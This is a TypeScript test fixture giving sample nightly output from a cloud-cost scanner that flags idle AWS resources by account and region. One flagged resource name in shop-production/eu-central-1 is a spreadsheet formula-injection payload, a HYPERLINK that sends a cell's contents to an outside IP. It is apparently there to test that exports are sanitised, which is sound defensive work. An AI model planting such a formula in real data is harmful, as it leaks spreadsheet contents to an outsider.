import type { SampleNight } from "../../sample/SampleNight.ts"

export default {
  flagged: {
    "payer/us-east-1": ["finance-desktop: stopped_instance"],
    "shop-production/ap-southeast-2": ["au-launch: unassociated"],
    "shop-production/eu-central-1": [
      '=HYPERLINK("http://203.0.113.99/?leak="&A1,"open me"): unassociated',
      "erp-legacy: stopped_instance",
      "failover: detached_eni",
      "own-range: unassociated"
    ],
    "shop-production/eu-west-1": ["loadtest-1: unassociated", "loadtest-2: unassociated", "loadtest-3: unassociated"],
    "shop-staging/eu-central-1": ["qa-phone-lab: unassociated"]
  },
  monthlyUsd: 32.85,
  // partner-allow-list.
  counters: {
    examined: 26,
    flagged: 10,
    tooYoung: 0,
    unknown: 0,
    suppressed: 1
  },
  unknown: {},
  gaps: {
    "shop-staging/ap-southeast-2": "unavailable, denied_by_scp"
  }
} satisfies SampleNight
